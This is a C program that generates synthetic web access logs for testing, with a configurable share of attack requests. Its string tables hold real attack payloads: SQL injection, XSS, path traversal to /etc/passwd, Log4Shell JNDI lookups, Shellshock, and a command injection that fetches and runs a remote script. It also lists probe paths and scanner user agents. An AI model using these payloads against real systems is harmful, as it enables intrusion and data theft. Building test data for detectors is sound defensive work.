/* Deterministic access-log generator.  gen KIND MIB > file;  KIND: a1 (1 % attacks), a10 (10 %),
 * hostile, json */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint64_t s = 0x9e3779b97f4a7c15u;
static uint32_t rnd(void)
{
	s ^= s << 13;
	s ^= s >> 7;
	s ^= s << 17;
	return (uint32_t)(s >> 32);
}
static uint32_t below(uint32_t n)
{
	return (uint32_t)((uint64_t)rnd() * n >> 32);
}
#define PICK(a) (a)[below(sizeof(a) / sizeof(*(a)))]

static char out[1 << 16], *o;
static void put(const char *t)
{
	size_t n = strlen(t);
	memcpy(o, t, n);
	o += n;
}
static void num(uint32_t v)
{
	o += sprintf(o, "%u", v);
}

static const char *words[] = { "account", "order", "invoice", "summer", "product", "blue", "widget",
	"report", "season", "travel", "madrid", "kitchen", "select", "garden", "update", "union",
	"station", "family", "photo", "music", "delete", "script", "history", "world", "office",
	"winter", "jacket", "size", "color", "green", "camera", "phone", "cover", "leather",
	"review", "price", "shipping", "express", "basket", "checkout", "login", "profile",
	"setting", "language", "system", "image", "table", "from", "order by phone", "concert" };
static const char *paths[] = { "/", "/index.html", "/api/v2/products/", "/api/v1/users/",
	"/shop/catalog/", "/static/js/app.", "/static/css/main.", "/images/products/", "/search",
	"/blog/2025/07/", "/account/orders/", "/cart/items/", "/checkout/payment",
	"/api/v3/session/refresh", "/docs/guide/", "/media/video/", "/category/", "/events/",
	"/graphql", "/assets/fonts/inter-" };
static const char *ext[] = { "", "", "", ".html", ".js", ".css", ".png", ".webp", ".json", ".svg" };
static const char *keys[] = { "q", "page", "utm_source", "utm_medium", "utm_campaign", "sort",
	"filter", "id", "session", "lang", "ref", "category", "price_min", "price_max", "color",
	"size", "token", "ts", "callback", "fields", "include", "limit", "offset", "_", "gclid" };
static const char *uas[] = { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
			     "like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	"Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
	"like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/125.0.6422.165 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"ShopApp/4.12.1 (iOS 17.5; iPhone15,3) CFNetwork/1496.0.7 Darwin/23.5.0" };
static const char *bots[] = { "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"curl/8.5.0", "python-requests/2.31.0",
	"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
	"+https://openai.com/gptbot)" };
static const char *atk_ua[] = { "sqlmap/1.8.6#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
	"gobuster/3.6", "${jndi:ldap://198.51.100.7:1389/a}", "() { :; }; /bin/bash -c 'id'",
	"WPScan v3.8.25 (https://wpscan.com)" };
static const char *atk_q[] = { "1' or '1'='1", "1 union all select null,null,version()--",
	"-1 union/**/select 1,2,concat(0x7e,user())#", "1;drop table users--", "1' and sleep(5)#",
	"1 and 7=7", "x'||'y", "1 and extractvalue(1,concat(0x7e,version()))",
	"'; waitfor delay '0:0:5'--", "<script>alert(1)</script>",
	"\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=confirm`1`>",
	"javascript:alert(1)", "<iframe src=javascript:alert(1)>",
	"{{constructor.constructor('alert(1)')()}}", "../../../../etc/passwd",
	"..\\..\\windows\\win.ini", "php://filter/convert.base64-encode/resource=index",
	"/proc/self/environ", "file:///etc/shadow", ";cat /etc/passwd", "|id", "`whoami`",
	"$(curl http://198.51.100.9/x.sh|sh)", "${jndi:ldap://x.oast.pro/a}",
	"${${lower:j}ndi:rmi://198.51.100.7/b}", "http://169.254.169.254/latest/meta-data/",
	"<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "{{7*7}}",
	"<?php system('id');?>", "class.module.classLoader.resources", "//evil.example.net/login" };
static const char *atk_p[] = { "/.git/config", "/.env", "/wp-config.php.bak",
	"/phpmyadmin/index.php", "/wp-login.php", "/cgi-bin/../../../../bin/sh",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/server-status",
	"/boaform/admin/formLogin", "/shell.php", "/backup.sql" };

static void enc(const char *t, int level)
{
	for (; *t; t++) {
		unsigned char c = (unsigned char)*t;
		int plain = (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '.' ||
			    c == '-' || c == '_' || c == '/';
		if (c >= 'a' && c <= 'z' && level == 2 && below(3) == 0)
			c = (unsigned char)(c - 32);
		if (c == ' ' && level == 1)
			*o++ = '+';
		else if (plain && !(level == 2 && below(8) == 0))
			*o++ = (char)c;
		else if (plain || (c >= 'A' && c <= 'Z'))
			*o++ = (char)c;
		else
			o += sprintf(o, level == 2 ? "%%25%02X" : "%%%02X", c);
	}
}
static void value(void)
{
	switch (below(10)) {
	case 0:
	case 1:
	case 2:
		put(PICK(words));
		break;
	case 3:
	case 4:
		num(below(100000));
		break;
	case 5:
		put(PICK(words));
		*o++ = '+';
		put(PICK(words));
		break;
	case 6:
		enc(PICK(words), 1);
		put("%20");
		put(PICK(words));
		put("%2C");
		put(PICK(words));
		break;
	case 7:
		o += sprintf(o, "%08x-%04x-4%03x-%08x", rnd(), below(65536), below(4096), rnd());
		break;
	case 8:
		for (int i = 0; i < 24; i++)
			*o++ = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
			    [below(64)];
		break;
	default:
		put("https%3A%2F%2Fwww.example.com%2F");
		put(PICK(words));
		break;
	}
}
static void target(void)
{
	put(PICK(paths));
	put(PICK(words));
	if (below(2)) {
		*o++ = '-';
		num(below(10000));
	}
	put(PICK(ext));
}
static void query(int min)
{
	int n = min + (int)below(4);
	for (int i = 0; i < n; i++) {
		*o++ = i ? '&' : '?';
		put(PICK(keys));
		*o++ = '=';
		value();
	}
}
static void hostile_value(
    int n) /* near misses: every literal, no (or late) match; long runs for backtrackers */
{
	static const char *frag[] = { "select ", "from ", "case when ", "then ", "<a ", "onx",
		"'or(", "union  ", "concat(", "echo ", "${x", "{{", "aaaaaaaaaaaaaaaa", "group by ",
		"call_user_func ", "wget -x ", "/vendor/phpunit/", "<style x", "document .",
		"abcdef=1&", "nc -" };
	int mode = (int)below(4);
	const char *f = PICK(frag);
	char *end = o + n;
	while (o < end) {
		const char *t = mode == 0 ? PICK(frag) : f;
		for (; *t; t++)
			*o++ = *t == ' ' ? '+' : *t;
	}
}
int main(int argc, char **argv)
{
	const char *kind = argc > 1 ? argv[1] : "a1";
	uint64_t want = (uint64_t)(argc > 2 ? atoi(argv[2]) : 512) << 20, done = 0, ts = 0;
	int json = !strcmp(kind, "json"), hostile = !strcmp(kind, "hostile"),
	    pct = !strcmp(kind, "a10") ? 100 : 10;
	static char ua[4096];
	while (done < want) {
		o = out;
		ts += below(4) == 0;
		int atk = (int)below(1000) < pct, where = atk ? (int)below(10) : -1;
		char *url0, *url1;
		if (json)
			put("{\"remote_addr\":\"");
		o += sprintf(
		    o, "%u.%u.%u.%u", 11 + below(180), below(256), below(256), 1 + below(254));
		put(json ? "\",\"time\":\"" : below(20) ? " - - [" : " - jdoe [");
		o += sprintf(o, "%02u/Jul/2025:%02u:%02u:%02u +0000",
		    (unsigned)(1 + ts / 86400 % 28), (unsigned)(ts / 3600 % 24),
		    (unsigned)(ts / 60 % 60), (unsigned)(ts % 60));
		put(json ? "\",\"request\":\"" : "] \"");
		put(below(10) ? "GET " : "POST ");
		url0 = o;
		if (where >= 0 && where < 2)
			put(PICK(atk_p));
		else
			target();
		if (hostile) {
			put("?q=");
			hostile_value(below(16) ? 200 + (int)below(800) : 7000);
		} else if (where >= 2 && where < 8) {
			query(1);
			*o++ = '&';
			put(PICK(keys));
			*o++ = '=';
			enc(PICK(atk_q), 1 + (int)below(2));
		} else if (below(10) < 7)
			query(1);
		url1 = o;
		(void)url0;
		(void)url1;
		put(" HTTP/1.1");
		put(json ? "\",\"status\":" : "\" ");
		put(below(20) ? "200" : "404");
		put(json ? ",\"bytes\":" : " ");
		num(below(60000));
		put(json ? ",\"referer\":\"" : " \"");
		if (below(10) < 6) {
			put("https://www.example.com");
			target();
			if (below(3) == 0)
				query(1);
		} else
			*o++ = '-';
		put(json ? "\",\"user_agent\":\"" : "\" \"");
		strcpy(ua, where >= 8 ? PICK(atk_ua) : below(100) < 3 ? PICK(bots) : PICK(uas));
		if (below(10) < 3) /* vary some versions: a long tail of distinct agents */
			for (int i = 0; i < 3; i++) {
				char *c = ua + below((uint32_t)strlen(ua));
				if (*c >= '0' && *c <= '9')
					*c = (char)('0' + below(10));
			}
		put(ua);
		put(json ? "\"}\n" : "\"\n");
		fwrite(out, 1, (size_t)(o - out), stdout);
		done += (uint64_t)(o - out);
	}
	return 0;
}
